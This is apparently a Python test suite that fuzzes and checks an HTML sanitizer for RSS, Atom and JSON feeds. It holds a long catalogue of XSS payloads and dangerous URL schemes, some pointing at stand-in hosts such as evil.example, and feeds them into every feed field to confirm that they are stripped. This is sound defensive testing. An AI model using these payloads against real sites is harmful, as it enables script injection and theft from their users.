"""Whatever HTML a feed sends, nothing outside the allowlist comes out.

A hypothesis property test over generated HTML (a grammar of tags, attributes and URL schemes,
nasty ones included), and a catalogue of XSS vectors put into every field of RSS, Atom and
JSON Feed documents, parsed, and rendered the way templates render entries (autoescaped text,
sanitized HTML as is). Everything is checked by parsing the output.
"""

from __future__ import annotations

import json
from html import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pln_site.feeds.parse.feed import parse_feed
from pln_site.feeds.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html
from pln_site.text import plain_text
from tests.support.parse_fixtures import FEED_URL, ParsedHtml, parse_html, xml_text

SAFE_SCHEMES = ("http", "https", "mailto")
# What clean_html adds itself.
ADDED_ATTRIBUTES = {"a": frozenset({"rel"}), "img": frozenset({"loading"})}


def assert_within_allowlist(parsed: ParsedHtml, extra_tags: frozenset[str] = frozenset()) -> None:
    for tag in parsed.elements:
        assert tag in ALLOWED_TAGS or tag in extra_tags, f"element <{tag}> is not allowed"
    for tag, name, _ in parsed.attributes:
        allowed = (
            ALLOWED_ATTRIBUTES.get(tag, frozenset())
            | ALLOWED_ATTRIBUTES["*"]
            | ADDED_ATTRIBUTES.get(tag, frozenset())
        )
        assert name in allowed, f"attribute {name} on <{tag}> is not allowed"
        assert not name.startswith("on")
    for url in parsed.urls():
        scheme = url.split(":", 1)[0].lower() if ":" in url else ""
        assert scheme in SAFE_SCHEMES, f"URL {url!r} has a scheme outside the allowlist"
    assert not parsed.comments


# --- the property ----------------------------------------------------------------------------

TAGS = [
    "p", "a", "img", "div", "span", "b", "em", "code", "pre", "table", "td", "ul", "li",
    "figure", "blockquote", "script", "style", "iframe", "object", "embed", "svg", "math",
    "form", "input", "button", "meta", "base", "link", "frame", "frameset", "applet", "video",
    "audio", "source", "template", "noscript", "textarea", "select", "title", "xmp",
    "plaintext", "foreignObject", "animate", "set", "use", "image", "details", "marquee",
    "isindex", "body", "html", "head", "x-custom", "ScRiPt", "IMG", "A",
]  # fmt: skip
ATTRIBUTES = [
    "href", "src", "srcset", "cite", "action", "formaction", "data", "poster", "background",
    "style", "class", "id", "name", "srcdoc", "xlink:href", "xmlns", "onerror", "onload",
    "onclick", "onmouseover", "ONFOCUS", "autofocus", "http-equiv", "content", "target",
    "rel", "alt", "title", "lang", "dir", "width", "colspan", "dynsrc", "lowsrc", "values",
    "attributeName", "to", "from", "by", "open", "ontoggle",
]  # fmt: skip
URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:x",
    " \x01javascript:x", "jav&#x61;script:x", "&#106;avascript:x", "javascript&colon;x",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "DATA:image/png;base64,AA",
    "livescript:x", "mocha:x", "file:///etc/passwd", "//evil.example/x", "/relative", "rel.html",
    "https://ok.example/", "http://ok.example/?a=1&b=2", "mailto:a@b.example", "#frag",
    "?q=1", "ftp://x/", "blob:https://x/", "about:blank", "x:y", "\\\\evil\\share",
    "javascript://%0aalert(1)", "https:javascript:x", "expression(alert(1))",
    "url(javascript:alert(1))",
]  # fmt: skip
TEXTS = ["x", "alert(1)", "<", ">", "&", "&amp;", "&lt;script&gt;", '"', "'", "]]>", "<!--",
         "-->", "<![CDATA[", "</", "\x00", "\u2028", "é"]  # fmt: skip

attribute_values = st.one_of(st.sampled_from(URLS), st.sampled_from(TEXTS), st.text(max_size=8))
attributes = st.lists(st.tuples(st.sampled_from(ATTRIBUTES), attribute_values), max_size=3)


def render_attributes(pairs, quote: str) -> str:
    return "".join(f" {name}={quote}{value.replace(quote, '')}{quote}" for name, value in pairs)


def element(children):
    return st.builds(
        lambda tag, attrs, quote, inner, closed: (
            f"<{tag}{render_attributes(attrs, quote)}>{''.join(inner)}"
            + (f"</{tag}>" if closed else "")
        ),
        st.sampled_from(TAGS),
        attributes,
        st.sampled_from(['"', "'", ""]),
        st.lists(children, max_size=3),
        st.booleans(),
    )


html_fragments = st.recursive(
    st.one_of(
        st.sampled_from(TEXTS),
        st.sampled_from(
            [
                "<!-- c -->",
                "<![CDATA[<script>x</script>]]>",
                "<!DOCTYPE html>",
                "<?php x ?>",
                "<scr<script>ipt>",
                "</p>",
                "<br/>",
                "<img/src=x/onerror=y>",
            ]
        ),
    ),
    element,
    max_leaves=12,
).map(lambda value: value if isinstance(value, str) else "".join(value))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html_fragments)
def test_cleaned_html_stays_within_the_allowlist(fragment):
    assert_within_allowlist(parse_html(clean_html(fragment, "https://blog.example/post")))


@settings(max_examples=200, deadline=None)
@given(html_fragments)
def test_plain_text_never_contains_markup_from_html(fragment):
    text = plain_text(fragment)
    assert not parse_html(escape(text)).elements
    assert "\x00" not in text


# --- XSS vectors in every field of every format ----------------------------------------------

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="jav&#x09;ascript:alert(1);">',
    '<img src="jav&#x0A;ascript:alert(1);">',
    '<img src=" &#14;  javascript:alert(1);">',
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    '<img srcset="javascript:alert(1) 1x">',
    '<img """><script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
    '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
    '<a href="#" formaction="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '<div onclick="alert(1)">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x.class"></applet>',
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!-- --!><script>alert(1)</script> -->",
    "<p><b><i>unclosed <script>alert(1)",
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><td>x</td></table>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><script>alert(1)</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
]

PAGE_TAGS = frozenset({"article", "h2", "a", "p", "ul", "li", "header"})


def render_feed(feed) -> str:
    """An entry list the way the river templates render it: text escaped, *_html as is."""
    parts = [f"<header>{escape(feed.title or '')}"]
    if feed.html_url:
        parts.append(f'<a href="{escape(feed.html_url)}">site</a>')
    parts.append("</header>")
    for entry in feed.entries:
        parts.append("<article><h2>")
        if entry.link:
            parts.append(f'<a href="{escape(entry.link)}">{escape(entry.title)}</a>')
        else:
            parts.append(escape(entry.title))
        parts.append(f"</h2><p>{escape(entry.author or '')}</p>")
        parts.append(entry.content_html + entry.summary_html)
        parts.append("<ul>" + "".join(f"<li>{escape(c)}</li>" for c in entry.categories) + "</ul>")
        parts.append("</article>")
    return "".join(parts)


def check(feed) -> None:
    assert feed.entries, "the vector document should still be a feed with an entry"
    parsed = parse_html(render_feed(feed))
    assert_within_allowlist(parsed, PAGE_TAGS)
    for entry in feed.entries:
        assert entry.link is None or entry.link.startswith(("http://", "https://"))
        for html in (entry.content_html, entry.summary_html):
            assert_within_allowlist(parse_html(html))


def rss_with(vector: str) -> bytes:
    text = xml_text(vector)
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>{text}</title><link>{text}</link><description>{text}</description>
<item><title>{text}</title><link>{text}</link><guid isPermaLink="false">g1</guid>
<description>{text}</description>
<content:encoded><![CDATA[{vector.replace("]]>", "]]]]><![CDATA[>")}]]></content:encoded>
<dc:creator>{text}</dc:creator><author>{text}</author><category>{text}</category>
<enclosure url="{escape(vector)}" type="audio/mpeg" length="1"/>
<comments>{text}</comments></item>
<item><title>second</title><link>https://blog.example/2</link><description>{text}</description></item>
</channel></rss>""".encode()


def atom_with(vector: str) -> bytes:
    text = xml_text(vector)
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">{text}</title><subtitle type="html">{text}</subtitle>
<link rel="alternate" href="{escape(vector)}"/><id>urn:f</id><updated>2024-01-01T00:00:00Z</updated>
<author><name>{text}</name><uri>{text}</uri></author>
<entry><id>urn:e1</id><title type="html">{text}</title><link rel="alternate" href="{escape(vector)}"/>
<link rel="enclosure" href="{escape(vector)}"/><updated>2024-01-01T00:00:00Z</updated>
<author><name>{text}</name></author><category term="{escape(vector)}" label="{escape(vector)}"/>
<summary type="html">{text}</summary><content type="html">{text}</content></entry>
<entry><id>urn:e2</id><title>{text}</title><updated>2024-01-01T00:00:00Z</updated>
<summary type="text">{text}</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{text}</div></content></entry>
</feed>""".encode()


def json_feed_with(vector: str) -> bytes:
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": vector,
        "home_page_url": vector,
        "authors": [{"name": vector, "url": vector}],
        "items": [
            {
                "id": "1",
                "url": vector,
                "external_url": vector,
                "title": vector,
                "content_html": vector,
                "summary": vector,
                "image": vector,
                "authors": [{"name": vector}],
                "tags": [vector],
                "attachments": [{"url": vector, "mime_type": "audio/mpeg"}],
            },
            {"id": "2", "content_text": vector, "author": {"name": vector}},
        ],
    }
    return json.dumps(document).encode()


def test_there_are_at_least_sixty_vectors():
    assert len(set(XSS_VECTORS)) >= 60


@pytest.mark.parametrize("make", [rss_with, atom_with, json_feed_with], ids=["rss", "atom", "json"])
@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_in_every_field(make, vector):
    check(parse_feed(make(vector), url=FEED_URL))


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<p onclick="x">y</p>',
        "<!-- c -->",
        '<img src="data:image/png;base64,AA">',
    ],
)
def test_the_check_rejects_unsanitized_html(raw):
    # The checks above would notice if cleaning let these through.
    with pytest.raises(AssertionError):
        assert_within_allowlist(parse_html(raw))
